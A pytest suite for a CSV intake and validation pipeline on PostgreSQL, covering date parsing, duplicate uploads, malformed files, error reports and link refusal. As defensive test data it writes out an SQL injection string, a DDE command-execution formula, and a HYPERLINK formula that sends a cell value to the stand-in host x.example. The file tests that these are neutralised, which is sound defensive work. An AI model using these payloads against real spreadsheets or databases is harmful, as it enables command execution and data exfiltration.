"""Intake and validation on a real PostgreSQL with the real GX suites."""

import csv
import json
import os
import time
import uuid
from dataclasses import replace
from pathlib import Path

import pytest

from benefitflow.core import config, db
from benefitflow.core.config import EXPECTATIONS_DIR
from benefitflow.core.errors import WorkflowError
from benefitflow.selftest.platform_selftest import SPEC, WORKFLOW
from benefitflow.workflows import inputs, suites
from benefitflow.workflows.intake import take_in_file
from benefitflow.workflows.propose import propose_step
from benefitflow.workflows.validate import validate_step

GOOD = "code,label,amount\nA1,first,10.50\nA2,second,0.25\n"


def upload_row(upload_id: int) -> dict:
    with db.transaction() as cur:
        cur.execute("SELECT status, row_count, valid_row_count, invalid_row_count, message, stored_path"
                    " FROM intake.uploads WHERE upload_id = %s", (upload_id,))
        return dict(zip(("status", "rows", "valid", "invalid", "message", "stored_path"), cur.fetchone(), strict=True))


def latest_upload() -> dict:
    with db.transaction() as cur:
        cur.execute("SELECT max(upload_id) FROM intake.uploads")
        return upload_row(cur.fetchone()[0])


def run_intake(path: Path) -> dict:
    """A run of its own for each file (a run taking in a file again supersedes its earlier upload)."""
    return take_in_file(spec=SPEC, file=path.name, user="maker", dag_id="test", run_id=uuid.uuid4().hex)


@pytest.mark.parametrize("suite_file", sorted(EXPECTATIONS_DIR.glob("*.json")), ids=lambda p: p.name)
def test_every_suite_loads_with_all_its_expectations(suite_file: Path) -> None:
    declared = len(json.loads(suite_file.read_text())["expectations"])
    assert len(suites.load_suite(suite_file.stem).expectations) == declared


def test_a_suite_with_an_unknown_expectation_is_refused() -> None:
    with pytest.raises(suites.SuiteError):
        suites.suite_from_document({"name": "x", "expectations": [
            {"type": "expect_column_values_to_not_be_null", "kwargs": {"column": "a"}},
            {"type": "expect_column_values_to_be_bogus", "kwargs": {"column": "a"}},
        ]})


def test_iso_dates_are_parsed_as_postgresql_reads_real_dates_and_nothing_else(database) -> None:
    """intake.parse_iso_date (migration 016) against PostgreSQL's own date input, day by day over 1896-2104
    (leap years of every kind), and against shapes it must refuse."""
    with db.transaction() as cur:
        cur.execute(
            "SELECT count(*), count(*) FILTER (WHERE intake.parse_iso_date(text) IS DISTINCT FROM day)"
            " FROM (SELECT to_char(day, 'YYYY-MM-DD') AS text, day::date"
            "       FROM generate_series('1896-01-01'::date, '2104-12-31', interval '1 day') AS day) AS days")
        days, wrong = cur.fetchone()
        cur.execute(
            "SELECT value FROM unnest(%s) AS value WHERE intake.parse_iso_date(value) IS NOT NULL",
            (["2023-02-29", "1900-02-29", "2100-02-29", "2021-04-31", "2021-06-31", "2021-09-31", "2021-11-31",
              "2021-01-32", "2021-13-01", "2021-00-10", "2021-01-00", "0999-01-01", "2021-1-01", "21-01-01",
              "2021/01/01", " 2021-01-01", "2021-01-01T00:00", ""],))
        accepted = [value for (value,) in cur.fetchall()]
    assert days == 76_336 and wrong == 0
    assert accepted == []


def test_a_good_file_is_recorded_staged_and_copied(database, inbox_file) -> None:
    path = inbox_file("good.csv", GOOD)
    upload = run_intake(path)
    assert upload["row_count"] == 2
    record = upload_row(upload["upload_id"])
    assert record["status"] == "RECEIVED"
    assert Path(record["stored_path"]).read_text() == GOOD
    with db.transaction() as cur:
        cur.execute(f"SELECT row_number, code, amount FROM intake.{upload['staged_table']} ORDER BY 1")
        assert cur.fetchall() == [(1, "A1", "10.50"), (2, "A2", "0.25")]


def test_the_same_file_is_refused_the_second_time(database, inbox_file) -> None:
    content = "code,label,amount\nDUP1,x,1\n"
    first = run_intake(inbox_file("once.csv", content))
    again = inbox_file("again.csv", content)
    with pytest.raises(WorkflowError, match=f"already uploaded as upload {first['upload_id']}"):
        run_intake(again)
    with db.transaction() as cur:
        cur.execute("SELECT outcome, details->>'reason' FROM ledger.audit_events WHERE action = 'upload.refused'"
                    " AND object_id = %s", (again.name,))
        outcome, reason = cur.fetchone()
    assert outcome == "REFUSED" and "already uploaded" in reason


def test_a_run_taking_in_its_file_again_supersedes_its_earlier_upload(database, inbox_file) -> None:
    path = inbox_file("retried.csv", "code,label,amount\nRETRY1,x,1\n")
    first = take_in_file(spec=SPEC, file=path.name, user="maker", dag_id="test", run_id="retried")
    again = take_in_file(spec=SPEC, file=path.name, user="maker", dag_id="test", run_id="retried")
    with db.transaction() as cur:
        cur.execute("SELECT upload_id, status FROM intake.uploads WHERE run_id = 'retried' ORDER BY upload_id")
        assert cur.fetchall() == [(first["upload_id"], "SUPERSEDED"), (again["upload_id"], "RECEIVED")]
        cur.execute("SELECT count(*) FROM ledger.audit_events WHERE action = 'upload.superseded' AND object_id = %s",
                    (str(first["upload_id"]),))
        assert cur.fetchone()[0] == 1
        cur.execute("SELECT to_regclass(%s), to_regclass(%s)",  # the superseded one's staged rows are let go of
                    (f"intake.{first['staged_table']}", f"intake.{again['staged_table']}"))
        assert cur.fetchone() == (None, f"intake.{again['staged_table']}")
    with pytest.raises(WorkflowError, match=f"already uploaded as upload {again['upload_id']}"):
        run_intake(path)  # another run: still refused


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"code,label,amount\nA1,x,1\nA2,y,2,extra\n", r"row 2 \(line 3\): more values than the header"),
        (b"code,label,amount\nA1,x,1\nA2,y\n", r"row 2 \(line 3\): fewer values"),
        (b"code,label,amount\nA1,x,1\nA2,caf\xe9,2\n", r"row 2 \(line 3\): not valid UTF-8"),
        (b'code,label,amount\nA1,"never closed,1\n', r"quoted value is never closed|not a valid CSV row"),
        (b"code,label,amount\n", "header but no rows"),
        (b"code;label;amount\nA1;x;1\n", "separated by semicolon"),
    ],
)
def test_a_malformed_file_is_refused_with_row_and_kept(database, inbox_file, content: bytes, message: str) -> None:
    path = inbox_file("bad.csv", content)
    with pytest.raises(WorkflowError, match=message) as error:
        run_intake(path)
    assert path.name in str(error.value)
    record = latest_upload()
    assert record["status"] == "INVALID"
    assert Path(record["stored_path"]).read_bytes() == content  # the original is kept


def test_validation_reports_every_failing_row_and_column(database, inbox_file) -> None:
    rows = ["code,label,amount", "A1,ok,1.00", "bad code,ok,2", "A3,,3", "A1,dup,abc", "A5,\"'; DROP TABLE x; --\",4"]
    upload = run_intake(inbox_file("mixed.csv", "\n".join(rows) + "\n"))
    with pytest.raises(WorkflowError, match="4 of 5 rows are invalid") as error:
        validate_step(workflow=WORKFLOW, taken=upload, options={"on_invalid_rows": "reject_file"}, user="maker")
    assert "mixed.csv" in str(error.value) and "Row 2, column code" in str(error.value)
    with db.transaction() as cur:
        cur.execute("SELECT row_number, column_name, rule FROM intake.row_errors WHERE upload_id = %s"
                    " ORDER BY 1, 2, 3", (upload["upload_id"],))
        errors = cur.fetchall()
    assert (2, "code", "code:column_values_to_match_regex") in errors
    assert (3, "label", "label:column_values_to_not_be_null") in errors
    assert (4, "amount", "amount:column_values_to_match_regex") in errors
    assert (1, "code", "code:column_values_to_be_unique") in errors and (4, "code", "code:column_values_to_be_unique") in errors
    assert not any(row == 5 for row, _, _ in errors)  # a hostile string is just a label
    record = latest_upload()
    assert (record["status"], record["invalid"], record["valid"]) == ("INVALID", 4, 1)
    report = validation_report(upload["upload_id"])
    assert {"file", "row", "column", "rule", "value", "message", "severity"} <= set(report[0])
    assert {r["file"] for r in report} == {Path(upload["file_name"]).name}


def test_the_suite_an_upload_was_checked_with_is_kept_beside_its_error_report(database, inbox_file) -> None:
    upload = run_intake(inbox_file("suite.csv", "code,label,amount\nS1,x,1.00\n"))
    summary = validate_step(workflow=WORKFLOW, taken=upload, options={"on_invalid_rows": "reject_file"}, user="maker")
    kept = config.upload_suite(upload["upload_id"])
    assert summary["checked_with"].endswith(f"/benefitflow/uploads/{upload['upload_id']}/suite")
    assert kept.parent == config.error_report(upload["upload_id"]).parent and kept.stat().st_mode & 0o777 == 0o640
    written = json.loads(EXPECTATIONS_DIR.joinpath("selftest.json").read_text())
    assert [(e["type"], e["kwargs"]) for e in json.loads(kept.read_text())["expectations"]] == [
        (e["type"], e["kwargs"]) for e in written["expectations"]]


def test_the_error_report_is_spreadsheet_safe_and_private_from_the_start(database, inbox_file) -> None:
    """A value a spreadsheet would run (=, +, -, @) comes out with a leading apostrophe; the file is 0640."""
    formula = '=HYPERLINK("https://x.example/?"&A1,"Open")'
    rows = ["code,label,amount", f'"{formula.replace(chr(34), chr(34) * 2)}",x,1', "@SUM(1),y,2", "A3,z,-3"]
    upload = run_intake(inbox_file("formulas.csv", "\n".join(rows) + "\n"))
    with pytest.raises(WorkflowError):
        validate_step(workflow=WORKFLOW, taken=upload, options={"on_invalid_rows": "reject_file"}, user="maker")
    values = {(r["row"], r["column"]): r["value"] for r in validation_report(upload["upload_id"])}
    assert values[("1", "code")] == "'" + formula
    assert values[("2", "code")] == "'@SUM(1)"
    assert values[("3", "amount")] == "'-3"
    with db.transaction() as cur:
        cur.execute("SELECT error_report_path, stored_path FROM intake.uploads WHERE upload_id = %s",
                    (upload["upload_id"],))
        paths = [Path(p) for p in cur.fetchone()]
    assert [path.stat().st_mode & 0o777 for path in paths] == [0o640, 0o640]


def test_every_cell_a_spreadsheet_would_evaluate_is_neutralised_and_nothing_else(database) -> None:
    evaluated = ["=1+1", "+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "|calc", "%0A=1", "\t=1", "\r=1", "\n=1",
                 " =1+1", '"=1+1', "\u00a0=1+1", "\u200b=1+1", "\ufeff=1", "\uff1d1+1", "\uff0b1", "\uff0d1",
                 "\uff20SUM(A1)", '  "-1']
    inert = ["Ann", "1.5", "", " Ann", '"quoted"', "O'Brien", "a=b", "2026-01-01", "\u00a0Ann"]
    with db.transaction() as cur:
        cur.execute("SELECT value, intake.spreadsheet_safe(value) FROM unnest(%s::text[]) AS value",
                    (evaluated + inert,))
        written = dict(cur.fetchall())
        cur.execute("SELECT intake.spreadsheet_safe(NULL)")
        assert cur.fetchone() == (None,)
    assert {value: written[value] for value in evaluated} == {value: "'" + value for value in evaluated}
    assert {value: written[value] for value in inert} == {value: value for value in inert}


@pytest.mark.parametrize("kind", ["symbolic link", "hard link"])
def test_a_link_to_a_file_outside_the_inbox_is_refused_and_nothing_is_archived(
        database, inbox_file, kind: str) -> None:
    secret = database.home / f"secret-{uuid.uuid4().hex[:6]}.csv"
    secret.write_text("code,label,amount\nSECRET,credentials,1\n")
    link = database.inbox / f"{uuid.uuid4().hex[:6]}-link.csv"
    link.symlink_to(secret) if kind == "symbolic link" else link.hardlink_to(secret)
    archived_before = sorted((database.outbox / "uploads").glob("*"))
    with pytest.raises(WorkflowError, match="symbolic link" if kind == "symbolic link" else "2 hard links") as error:
        run_intake(link)
    assert link.name in str(error.value)
    assert sorted((database.outbox / "uploads").glob("*")) == archived_before
    with db.transaction() as cur:
        cur.execute("SELECT count(*) FROM intake.uploads WHERE file_name = %s", (link.name,))
        assert cur.fetchone()[0] == 0
        cur.execute("SELECT outcome FROM ledger.audit_events WHERE action = 'upload.refused' AND object_id = %s",
                    (link.name,))
        assert cur.fetchall() == [("REFUSED",)]


def validation_report(upload_id: int) -> list[dict]:
    with db.transaction() as cur:
        cur.execute("SELECT error_report_path FROM intake.uploads WHERE upload_id = %s", (upload_id,))
        path = Path(cur.fetchone()[0])
    with path.open(newline="") as handle:
        return list(csv.DictReader(handle))


def test_skip_invalid_rows_goes_on_with_the_valid_ones(database, inbox_file) -> None:
    upload = run_intake(inbox_file("skip.csv", "code,label,amount\nS1,ok,1\nS2,,2\n"))
    summary = validate_step(workflow=WORKFLOW, taken=upload, options={"on_invalid_rows": "skip_invalid_rows"}, user="maker")
    assert (summary["rows_in_file"], summary["valid_rows"], summary["invalid_rows"]) == (2, 1, 1)
    assert latest_upload()["status"] == "WAITING_FOR_APPROVAL"


def test_a_validation_that_cannot_run_marks_the_upload_failed(database, inbox_file) -> None:
    upload = run_intake(inbox_file("nosuite.csv", "code,label,amount\nN1,x,1\n"))
    with pytest.raises(FileNotFoundError):
        validate_step(workflow=replace(WORKFLOW, validate=replace(WORKFLOW.validate, suite="no_such_suite")),
                      taken=upload, options={"on_invalid_rows": "reject_file"}, user="maker")
    record = latest_upload()
    assert record["status"] == "FAILED" and "validation could not run" in record["message"]


def test_a_file_larger_than_intake_takes_is_refused_before_a_byte_is_copied(database, inbox_file, monkeypatch) -> None:
    sparse = inbox_file("sparse.csv", "code,label,amount\n")
    with sparse.open("r+b") as handle:
        handle.truncate(1 << 43)  # eight terabytes that take no room on disk
    archived_before = sorted((database.outbox / "uploads").glob("*"))
    monkeypatch.setenv("BENEFITFLOW_MAX_UPLOAD_BYTES", str(1 << 50))
    with pytest.raises(WorkflowError, match=r"8,796,093,022,208 bytes does not fit in the archive"):
        run_intake(sparse)
    monkeypatch.setenv("BENEFITFLOW_MAX_UPLOAD_BYTES", "1000")
    with pytest.raises(WorkflowError, match=r"more than the largest file taken in \(1,000 bytes"):
        run_intake(sparse)
    assert sorted((database.outbox / "uploads").glob("*")) == archived_before
    with db.transaction() as cur:
        cur.execute("SELECT count(*) FROM intake.uploads WHERE file_name = %s", (sparse.name,))
        assert cur.fetchone()[0] == 0


def lose_staged_rows(upload: dict) -> None:
    """What PostgreSQL does to an UNLOGGED table when it restarts after a crash: empties it."""
    with db.transaction() as cur:
        cur.execute(f"TRUNCATE intake.{upload['staged_table']}")


def test_rows_a_database_crash_emptied_are_staged_again_from_the_archived_original(database, inbox_file) -> None:
    upload = run_intake(inbox_file("crashed.csv", "code,label,amount\nCRASH1,x,1\nCRASH2,y,2\n"))
    lose_staged_rows(upload)
    validated = validate_step(workflow=WORKFLOW, taken=upload, options={}, user="maker")
    assert (validated["rows_in_file"], validated["valid_rows"]) == (2, 2)
    assert upload_row(upload["upload_id"])["status"] == "WAITING_FOR_APPROVAL"
    with db.transaction() as cur:
        cur.execute(f"SELECT code FROM intake.{upload['staged_table']} ORDER BY row_number")
        assert cur.fetchall() == [("CRASH1",), ("CRASH2",)]
        cur.execute("SELECT count(*) FROM ledger.audit_events WHERE action = 'upload.restaged' AND object_id = %s",
                    (str(upload["upload_id"]),))
        assert cur.fetchone()[0] == 1

    lose_staged_rows(upload)  # after validate: the proposal would be of nothing
    with pytest.raises(WorkflowError, match="clear `validate` to stage them again"):
        propose_step(workflow=WORKFLOW, taken=upload, validated=validated)


def test_rows_lost_are_not_staged_again_from_an_archived_original_that_changed(database, inbox_file) -> None:
    upload = run_intake(inbox_file("crashed-then-altered.csv", "code,label,amount\nALTER1,x,1\n"))
    lose_staged_rows(upload)
    stored = Path(upload_row(upload["upload_id"])["stored_path"])
    stored.write_bytes(b"code,label,amount\nALTER1,x,1000000\n")
    with pytest.raises(Exception, match="is not the file taken in"):
        validate_step(workflow=WORKFLOW, taken=upload, options={}, user="maker")
    record = upload_row(upload["upload_id"])
    assert record["status"] == "FAILED" and "restore it from a backup" in record["message"]
    with db.transaction() as cur:
        cur.execute(f"SELECT count(*) FROM intake.{upload['staged_table']}")
        assert cur.fetchone()[0] == 0  # nothing of the altered file staged


def test_originals_no_upload_records_go_once_an_hour_old(database, inbox_file) -> None:
    """What an intake killed inside its transaction leaves: its archived original (and the copy it was receiving),
    with no upload recording it. `make up` removes them (benefitflow.platform.cli finish-files), not a recorded
    upload's original, nor a young one (an intake may be about to commit it)."""
    recorded = Path(upload_row(run_intake(inbox_file("recorded.csv", "code,label,amount\nKEPT1,x,1\n"))["upload_id"])[
        "stored_path"])
    archive = recorded.parent
    with db.transaction() as cur:
        cur.execute("SELECT max(upload_id) + 1000 FROM intake.uploads")
        unrecorded_id = cur.fetchone()[0]
    unrecorded, young = (archive / f"{unrecorded_id + n:08d}-people.csv" for n in (0, 1))
    receiving = archive / f"{inputs.RECEIVING_PREFIX}{uuid.uuid4().hex}"
    hour_ago = time.time() - inputs.ABANDONED_ORIGINAL_SECONDS - 60
    for path in (unrecorded, young, receiving):
        path.write_text("first_name\n")
    for path in (recorded, unrecorded, receiving):
        os.utime(path, (hour_ago, hour_ago))
    assert sorted(inputs.remove_unrecorded_originals(archive)) == sorted(
        f"removed {path.name}, archived by an intake that did not go through" for path in (unrecorded, receiving))
    assert recorded.exists() and young.exists() and not unrecorded.exists() and not receiving.exists()
    young.unlink()
